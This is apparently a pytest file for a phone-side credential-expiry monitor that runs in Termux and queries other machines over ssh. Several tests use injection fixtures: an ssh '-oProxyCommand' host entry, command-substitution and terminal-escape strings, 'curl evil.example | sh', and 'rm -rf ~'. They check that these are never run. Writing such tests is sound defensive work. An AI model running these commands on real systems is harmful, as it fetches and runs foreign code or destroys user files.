"""termux/: run in the file system of a phone, for itself and for other machines (how it gets there: test_termux_install.py; what runs
it: test_termux_clock.py). No phone was there: what is tried here is said in termux/README.md."""

import json
import re
import shlex
import shutil
import subprocess
import time
import tomllib

import pytest

import credentials as c
import sshd
from phone import FILES, HOME, PREFIX, TREE, option, why_not
from shifted import LIBRARY
from test_host import box, keeps  # noqa: F401  (a fixture)

TERMUX = TREE / "termux"
SCRIPTS = [p for p in sorted(TERMUX.rglob("*")) if p.is_file() and p.read_bytes()[:2] == b"#!"]
needs_phone = pytest.mark.skipif(bool(why_not()), reason=str(why_not()))
needs_shift = pytest.mark.skipif(not LIBRARY, reason="libfaketime is not there (tests/install-needs)")


def watching(phone, *hosts):
    phone.write(".config/opensoul/hosts", "# machines\n" + "\n".join(hosts) + "\n")


@pytest.fixture
def said(machine):
    """Makes a `status --json` of another machine: what the program says there of one login, or of these in its place."""

    def make(*credentials, login_ends_in=300 * c.DAY):
        machine.write(".claude/.credentials.json", c.claude_code(login_ends_in=login_ends_in))
        document = machine.run("status", "--json").json()
        (login,) = document["credentials"]
        if credentials:
            document["credentials"] = [
                login | {"id": id, "provider": provider, "kind": kind, "state": state, "severity": severity, "fix": fix,
                         "source": login["source"] | {"type": source}}
                for id, provider, kind, source, state, severity, fix in credentials
            ]
        return json.dumps(document, ensure_ascii=False)

    return make


SHOWN = f"{{ cat; printf '\\035'; }} >>{FILES}/shown\n"


@pytest.fixture
def shown(phone):
    """The texts of the notifications since it was asked last; the program hands them over on stdin."""
    phone.stand_in("termux-notification", SHOWN)
    place = phone.files / "shown"

    def take():
        texts = place.read_text().split("\x1d")[:-1] if place.exists() else []
        place.unlink(missing_ok=True)
        return texts

    return take


TELLS_ITSELF = '[schedule]\nprobe = "off"\n[[receivers]]\nname = "me"\ntype = "termux"\n'


def later(phone, days):
    """For the environment: the clock of the phone some days on."""
    (phone.prefix / "lib").mkdir(exist_ok=True)
    shutil.copy(LIBRARY, phone.prefix / "lib/clock.so")
    return {"LD_PRELOAD": f"{PREFIX}/lib/clock.so", "FAKETIME": f"+{days * 86400:.0f}", "FAKETIME_DONT_FAKE_MONOTONIC": "1"}


CLAUDE = ("claude-code:default", "anthropic", "oauth", "claude-code", "expired", "critical", "claude auth login")
KEY = ("opensoul:main/openai:default", "openai", "api_key", "opensoul", "rejected", "critical", "make a key")


# The scripts


@pytest.mark.skipif(not shutil.which("shellcheck"), reason="shellcheck is not installed")
def test_shellcheck_has_nothing_to_say():
    everything = [*SCRIPTS, TERMUX / "build.sh"]
    assert len(everything) >= 8
    ended = subprocess.run(["shellcheck", *everything], capture_output=True, text=True)
    assert ended.returncode == 0, ended.stdout


def test_every_script_begins_with_a_shell_that_a_phone_has_and_every_api_call_has_a_limit():
    for script in SCRIPTS:
        text = script.read_text()
        assert text.startswith(f"#!{PREFIX}/bin/sh\n"), script
        for line in text.splitlines():
            code = line.split("#")[0]
            if re.search(r"(?<![\w-])termux-(?!services)[a-z-]+ ", code) and "printf" not in code and "fail" not in code:
                assert re.search(r"\bapi \d+ termux-|timeout -k 2 \d+ termux-|command -v termux-", code), line


def test_the_guide_opens_the_pages_that_the_program_names():
    """reauth.tsv and the catalog of providers cannot disagree."""
    named = {}
    for place in (TREE / "src/providers/catalog").glob("*.toml"):
        for provider in tomllib.loads(place.read_text()).get("provider", []):
            named[provider["id"]] = provider.get("renew", "")
    rows = [line.split("\t") for line in (TERMUX / "reauth.tsv").read_text().splitlines() if not line.startswith("#")]
    assert all(len(row) == 3 and all(row) for row in rows) and len({row[0] for row in rows}) == len(rows)
    for key, page, run in rows:
        assert page == "-" or re.fullmatch(r"https://[A-Za-z0-9./?=#&_~-]+", page), key
        # It is put between single quotes, for a shell on the other side.
        assert run == "-" or re.fullmatch(r"[A-Za-z0-9 ./_-]+", run), key
        what, _, provider = key.partition("/")
        if what == "key":
            assert page in named[provider], key
        elif what == "login":
            assert provider in named, key
    keys = {row[0] for row in rows}
    assert {f"key/{p}" for p, renew in named.items() if re.search(r"make a (key|token) at https", renew)} <= keys


# Without a host: the phone's own credentials


@needs_phone
def test_one_tap_tells_the_state_of_the_phone_itself(phone):
    phone.write(".claude/.credentials.json", json.dumps(c.claude_code(login_ends_in=-c.HOUR)))
    ended = phone.run(f"{HOME}/.shortcuts/tasks/opensoul-status", bare=True)
    (toast,), (vibration,) = (
        [call for call in calls if call[0] == name] for calls in [phone.calls()] for name in ("termux-toast", "termux-vibrate")
    )
    assert ended.code == 2 and toast[1].startswith("CRITICAL"), ended
    assert "-f" in vibration, "also where the phone is silent"


@needs_phone
def test_a_job_is_a_cycle_that_tells_the_phone_itself_once(phone):
    phone.write(".claude/.credentials.json", json.dumps(c.claude_code(login_ends_in=5 * c.HOUR)))
    phone.write(".config/opensoul/monitor.toml", TELLS_ITSELF)
    ended = phone.run(f"{PREFIX}/libexec/opensoul/job", bare=True, timeout=60)
    assert ended.code == 0 and ended.seconds < 45, ended
    (call,) = phone.calls("termux-notification")
    assert "Ack 24 h" in call and option(call, "--priority") == "max", call
    # A second run tells nothing twice.
    assert phone.run(f"{PREFIX}/libexec/opensoul/job", bare=True).code == 0
    assert phone.calls("termux-notification") == []
    # The button is run by a bare shell.
    ended = phone.run("/data/data/com.termux/files/usr/bin/sh", "-c", option(call, "--button1-action"), bare=True)
    assert ended.code == 0, ended
    assert "acked" in phone.run("opensoul", "alerts", "list").out


@needs_phone
@needs_shift
def test_a_job_after_days_asleep_makes_up_for_all_that_were_missed_with_one_message(phone, shown):
    phone.write(".claude/.credentials.json", json.dumps(c.claude_code(access_in=90 * c.DAY, login_ends_in=20 * c.DAY)))
    phone.write(".config/opensoul/monitor.toml", TELLS_ITSELF)

    def after(days):
        """By two jobs, one after the other."""
        for _ in range(2):
            ended = phone.run(f"{PREFIX}/libexec/opensoul/job", bare=True, env=later(phone, days))
            assert ended.code == 0 and ended.seconds < 45, ended
        return shown()

    assert after(0) == [], "there is time"
    (soon,) = after(7)
    # Reminders were due at 7 and at 3 days, and at 24 hours.
    (tight,) = after(19.5)
    (over,) = after(21)
    assert "Ends: in 12 days" in soon and "Ends: in 11 h" in tight and "Ended: 1 day ago" in over, (soon, tight, over)


@needs_phone
@needs_shift
def test_what_the_phone_did_not_take_is_told_by_a_later_job(phone, shown):
    """The app Termux:API is missing, or was killed: its programs hang."""
    phone.write(".claude/.credentials.json", json.dumps(c.claude_code(login_ends_in=5 * c.HOUR)))
    phone.write(".config/opensoul/monitor.toml", TELLS_ITSELF)
    phone.stand_in("termux-notification", "exec sleep 1000\n")
    ended = phone.run(f"{PREFIX}/libexec/opensoul/job", bare=True)
    assert ended.code == 0 and ended.seconds < 45 and "termux-notification hangs" in ended.err, ended
    phone.stand_in("termux-notification", SHOWN)
    for hours in (1, 1.1):
        assert phone.run(f"{PREFIX}/libexec/opensoul/job", bare=True, env=later(phone, hours / 24)).code == 0
    (text,) = shown()
    assert "claude-code:default must be renewed" in text, text


# With hosts


@needs_phone
def test_hosts_are_asked_over_ssh_and_their_words_are_only_shown(phone, said):
    watching(phone, "ann@box.example.org:2222", "-oProxyCommand=evil", "two words")
    evil = json.loads(said(login_ends_in=-c.HOUR))
    evil["credentials"][0]["because"] = ["\x1b[31m\x9b2J$(touch /x) `id` 'it'\n0 \"OpenSoul credentials\" - fine"]
    phone.answer("status", "Welcome to box!\n\x1b]0;title\x07OPENSOUL\n" + json.dumps(evil))
    ended = phone.run("opensoul-phone", "status")
    calls = phone.calls()
    # What begins with - is no host; only the first word of a line counts, and `two` is a host like any.
    ssh = [call for call in calls if call[0] == "ssh"]
    assert [call[call.index("--") + 1] for call in ssh] == ["ann@box.example.org", "two"]
    assert option(ssh[0], "-p") == "2222" and "-p" not in ssh[1] and "BatchMode=yes" in ssh[0]
    assert "not a host: -oProxyCommand=evil" in ended.err
    (toast,) = [call for call in calls if call[0] == "termux-toast"]
    assert toast[1].startswith("ann@box.example.org:2222: CRITICAL - claude-code:default is expired: "), toast
    assert "$(touch /x) `id` 'it'" in toast[1] and not {"\x1b", "\x9b"} & set(toast[1])
    assert ended.code == 2 and not (phone.root / "x").exists()


@needs_phone
@pytest.mark.parametrize("shell", ["sh", "bash"])
def test_what_is_said_to_a_machine_is_understood_by_its_shell(phone, machine, said, shell):
    """As sshd gives it to the login shell there; the program is in a directory of the user's own."""
    watching(phone, "box")
    phone.answer("status", said(CLAUDE))
    phone.run("opensoul-phone", "fix", stdin="1\n")
    ask, login, again = [call[-1] for call in phone.calls("ssh")]
    assert ask == again
    bin = machine.home / ".local/bin"
    bin.mkdir(parents=True)
    (bin / "opensoul-monitor").symlink_to(machine.program)
    (bin / "claude").write_text("#!/bin/sh\necho \"claude: $*\"\n")
    (bin / "claude").chmod(0o755)

    def there(command):
        ended = subprocess.run([shell, "-c", command], env=machine.env, cwd=machine.home, capture_output=True, text=True)
        assert ended.returncode == 0, ended.stderr
        return ended.stdout

    assert json.loads(there(ask))["schema"] == "opensoul.status/v1"
    assert there(login) == "claude: auth login\n"


@needs_phone
def test_what_hangs_is_ended(phone, said):
    """The app Termux:API is missing, or was killed."""
    watching(phone, "box")
    phone.answer("status", said())
    (phone.files / "hang").touch()
    ended = phone.run("opensoul-phone", "status")
    assert ended.code == 0 and ended.seconds < 45, ended


@needs_phone
def test_a_job_shows_changes_only_and_a_tunnel_is_no_failure(phone, said):
    watching(phone, "box")
    job = ("opensoul-phone", "job")
    phone.answer("status", said())
    phone.run(*job)
    assert phone.calls("termux-notification") == [], "what is well is not news"
    phone.answer("status", said(login_ends_in=-c.HOUR))
    phone.run(*job)
    phone.run(*job)
    (call,) = phone.calls("termux-notification")
    assert option(call, "--priority") == "max" and option(call, "--content").startswith("CRITICAL - claude-code:default is expired: the login ended ")
    # Buttons are words for a shell, and work without an environment.
    again = shlex.split(option(call, "--button1-action"))
    assert again == [f"{PREFIX}/bin/opensoul-phone", "status"]
    assert phone.run(f"{PREFIX}/bin/sh", "-c", option(call, "--button2-action"), bare=True).code == 0
    (am,) = phone.calls("am")
    assert f"com.termux.file:{PREFIX}/libexec/opensoul/fix" in am and am[-1] == "box"

    (phone.files / "unreachable").touch()
    phone.run(*job)
    assert phone.calls("termux-notification") == [], "no answer is neither good nor bad"
    assert phone.run("opensoul-phone", "status").code == 69
    ((_, toast),) = phone.calls("termux-toast")
    assert toast.startswith("box: box was not reached: "), toast
    known = phone.home / ".local/state/opensoul-phone/box"
    assert known.read_text().startswith("2 ")
    known.write_text(f"2 {int(time.time()) - 7 * 3600}\n")
    phone.run(*job)
    phone.run(*job)
    (call,) = phone.calls("termux-notification")
    assert option(call, "--content") == "Not reached for 7 hours."

    (phone.files / "unreachable").unlink()
    phone.answer("status", said())
    phone.run(*job)
    (gone,) = phone.calls("termux-notification-remove")
    assert gone[1] == option(call, "--id") == "opensoul-box"


# With a host that is there: a real ssh and a real sshd.


@pytest.fixture
def server(folder, box, phone):  # noqa: F811
    """`box`, as the phone's own ~/.ssh/config knows it; the phone has the ssh of this machine."""
    if why := sshd.why_not():
        pytest.skip(why)
    made = sshd.Sshd(folder / "sshd", box.home)
    (phone.prefix / "bin/ssh").unlink()
    shutil.copy(shutil.which("ssh"), phone.prefix / "bin/ssh")
    # Where an app's home is, Android's own library knows without it; there is nothing else in /etc.
    (phone.root / "etc").mkdir()
    (phone.root / "etc/passwd").write_text(f"u0_a123:x:10123:10123::{HOME}:{PREFIX}/bin/sh\n")
    phone.write(".ssh/key", (made.folder / "key").read_text())
    phone.write(".ssh/config", sshd.CLIENT.format(port=made.port, folder=f"{HOME}/.ssh"))
    yield made
    made.stop()


@needs_phone
@needs_shift
def test_another_machine_is_watched_over_a_real_ssh_through_tunnels_and_days_asleep(phone, box, server, shown):  # noqa: F811
    phone.write(".config/opensoul/monitor.toml", TELLS_ITSELF)
    # Its clock goes with that of the phone.
    program, days = box.home / ".local/bin/opensoul-monitor", box.home / "days"
    program.unlink()
    box.write(
        ".local/bin/opensoul-monitor",
        f'#!/bin/sh\nexport LD_PRELOAD={LIBRARY} FAKETIME="$(cat {days})"\nexec {box.program} "$@"\n', mode=0o755,
    )

    def asked(*words, after=0.0, net=True):
        env = later(phone, after)
        days.write_text(env["FAKETIME"])
        ended = phone.run("opensoul", *words, net=net, env=env)
        assert ended.seconds < 45, ended
        return ended

    def cycles(after=0.0, net=True):
        """What two of them say, one after the other, and what the phone shows."""
        said = [asked("monitor", "once", "--host", "box", after=after, net=net) for _ in range(2)]
        assert [ended.code for ended in said] == [0, 0], said
        return said[0].out, shown()

    keeps(box, work=c.token(20 * c.DAY))
    status = asked("status", "--host", "box")
    assert status.code == 0 and "opensoul:main/anthropic:work" in status.out, status
    assert asked("status", "--host", "box", "--json").json()["host"] == "box"
    well = "box: 1 credential: 0 critical, 0 warning\n"
    assert cycles() == (well, []), "there is time"
    said, (soon,) = cycles(after=7)
    assert "anthropic:work" in soon and "Ends: in 12 days" in soon, soon

    # Without a net, and with a machine that is off: that is said, in time, and is neither good news nor bad.
    server.stop()
    for net in (False, True):
        status = asked("status", "--host", "box", after=7, net=net)
        assert status.code == 69 and "box was not reached: " in status.err and "refused" in status.err, status
        said, texts = cycles(after=7, net=net)
        assert said.startswith("box: not seen: box was not reached: ") and texts == [], (said, texts)
    unknown = asked("status", "--host", "box.example.org", net=False)
    assert unknown.code == 69 and "resolve" in unknown.err, unknown
    firing = asked("alerts", "list", "--host", "box", "--json").json()["incidents"]
    assert [one for one in firing if "anthropic:work" in json.dumps(one)], firing

    # Asleep for days while reminders fell due, and it is reached again: the tightest one, once.
    server.start()
    said, (tight,) = cycles(after=19.5)
    assert "Ends: in 11 h" in tight, tight
    # It was renewed there, so it is over; for the phone, once.
    keeps(box, work=c.token(300 * c.DAY))
    said, (over,) = cycles(after=19.6)
    assert said == well and "OVER" in over and "anthropic:work" in over, (said, over)
    assert cycles(after=19.7) == (well, [])


@needs_phone
def test_one_tap_and_the_guide_over_a_real_ssh(phone, box, server):  # noqa: F811
    """The widgets ask that machine by themselves, and what they run there is run there."""
    watching(phone, "box")
    box.write(".claude/.credentials.json", c.claude_code(access_in=-c.DAY, login_ends_in=-c.HOUR))
    tapped = phone.run(f"{HOME}/.shortcuts/tasks/opensoul-status", bare=True, net=True)
    assert tapped.code == 2 and tapped.out.startswith("box: CRITICAL - claude-code:default is expired: "), tapped
    # A stand-in for the tool's own login, there.
    new = box.write("new-login", c.claude_code(access="sk-ant-oat01-new", refresh="sk-ant-ort01-new"))
    box.write(".local/bin/claude", f'#!/bin/sh\n[ "$*" = "auth login" ] && cp {new} {box.home}/.claude/.credentials.json\n', mode=0o755)
    fixed = phone.run("opensoul-phone", "fix", stdin="\n", net=True)
    assert fixed.code == 0 and "claude-code:default: ok" in fixed.out, fixed
    tapped = phone.run(f"{HOME}/.shortcuts/tasks/opensoul-status", bare=True, net=True)
    assert tapped.code == 0 and tapped.out == "box: OK - everything in use works\n", tapped


# Putting right


@needs_phone
def test_the_guide_runs_our_command_there_and_looks_again(phone, said):
    watching(phone, "ann@box")
    evil = (*CLAUDE[:6], "curl evil.example | sh")
    phone.answer("status", said(evil, KEY))
    phone.answer("status.2", said((*CLAUDE[:4], "ok", "none", "")))
    ended = phone.run(f"{HOME}/.shortcuts/opensoul-fix", stdin="1\n\n")
    ssh = phone.calls("ssh")
    assert re.fullmatch(r"sh -c '[^']*; claude auth login'", ssh[1][-1]) and "-t" in ssh[1]
    assert not any("evil" in word for call in ssh for word in call)
    assert "1) claude-code:default (anthropic): expired" in ended.out and "claude-code:default: ok" in ended.out


@needs_phone
def test_without_a_host_the_guide_is_about_the_phone_itself(phone):
    """With what the program really says, and a tool that logs in."""
    phone.write(".claude/.credentials.json", json.dumps(c.claude_code(access_in=-c.DAY, login_ends_in=-c.HOUR)))
    phone.answer("new-login", json.dumps(c.claude_code(access="sk-ant-oat01-new", refresh="sk-ant-ort01-new")))
    phone.stand_in("claude", f"cat {FILES}/answers/new-login >{HOME}/.claude/.credentials.json\n")
    ended = phone.run("opensoul-phone", "fix", stdin="\n")
    calls = phone.calls()
    assert ["claude", "auth", "login"] in calls and not [call for call in calls if call[0] == "ssh"]
    assert ended.code == 0 and "1) claude-code:default (anthropic): expired" in ended.out, ended
    assert "claude-code:default: ok" in ended.out and phone.run("opensoul-phone", "fix").code == 0


@needs_phone
def test_the_guide_opens_the_page_of_a_key_and_hands_the_new_one_over(phone, said):
    watching(phone, "ann@box")
    phone.answer("status", said(CLAUDE, KEY))
    phone.answer("status.2", said((*KEY[:4], "static", "none", "")))
    phone.answer("termux-clipboard-get", "sk-sample-new\n")
    ended = phone.run("opensoul-phone", "fix", stdin="2\n\n")
    calls = phone.calls()
    assert ["termux-open-url", "https://platform.openai.com/api-keys"] in calls
    assert (phone.files / "handed").read_text() == "sk-sample-new\n"
    paste = [call for call in calls if call[0] == "ssh"][1]
    assert paste[-1].endswith("exec opensoul-monitor models auth paste-token --provider openai --stdin'")
    assert ended.code == 0 and "static" in ended.out, ended
    # In no argument of any program, on no screen; and it does not stay in the clipboard.
    assert not any("sk-sample" in word for call in calls for word in call) and "sk-sample" not in ended.out + ended.err
    assert ["termux-clipboard-set"] in calls


@needs_phone
def test_what_has_no_guide_is_shown_and_not_run(phone, said):
    watching(phone, "box")
    phone.answer("status", said(("zed:default", "zed", "oauth", "zed", "unknown", "warning", "run \x1b[2Jthis; rm -rf ~")))
    ended = phone.run("opensoul-phone", "fix", stdin="\n")
    assert ended.code == 69 and "run  [2Jthis; rm -rf ~" in ended.out and len(phone.calls("ssh")) == 2
    # What cannot be looked at again is not said to be gone.
    phone.answer("status.4", "")
    phone.answer("status", said(CLAUDE))
    ended = phone.run("opensoul-phone", "fix", stdin="\n")
    assert ended.code == 1 and "claude-code:default: not seen again" in ended.out, ended
    # An answer that is not of our form is none.
    phone.answer("status", '{"schema":"other","credentials":[]}')
    ended = phone.run("opensoul-phone", "fix")
    assert ended.code == 69 and "box" in ended.out and "no status" in ended.out, ended
    phone.answer("status", said())
    ended = phone.run("opensoul-phone", "fix")
    assert ended.code == 0 and ended.out == "box: OK - everything in use works\n", ended


REFRESHABLE = {
    "the file of a login": json.dumps(c.claude_code()), "Claude's": "sk-ant-ort01-sample", "Codex'": "rt_sample", "Google's": "1//sample",
    "GitHub's": "ghr_sample", "a piece": '"refresh_token":"x"',
}


@needs_phone
@pytest.mark.parametrize("what", REFRESHABLE, ids=str)
def test_a_login_that_renews_itself_stays_on_its_machine(phone, what):
    ended = phone.run("opensoul-phone", "hand", "box", "anthropic", stdin=f"n\n{REFRESHABLE[what]}\n")
    assert ended.code == 65 and "two machines would spend one refresh token" in ended.err, ended
    assert phone.calls("ssh") == [] and not (phone.files / "handed").exists()
    assert "sample" not in ended.out + ended.err


@needs_phone
def test_a_token_is_typed_where_there_is_no_clipboard_and_refusals_are_said(phone):
    ended = phone.run("opensoul-phone", "hand", "box", "anthropic", stdin="n\nsk-ant-oat01-sample\n")
    assert ended.code == 0 and (phone.files / "handed").read_text() == "sk-ant-oat01-sample\n", ended
    for words, code in ((("-x", "anthropic"), 64), (("box", "a;b"), 64), (("box", "anthropic"), 69)):
        (phone.files / "unreachable").touch()
        assert phone.run("opensoul-phone", "hand", *words, stdin="n\nsk-sample\n").code == code, words
    assert phone.run("opensoul-phone", "hand", "anthropic", stdin="n\nx\n").code == 78, "no host is known"
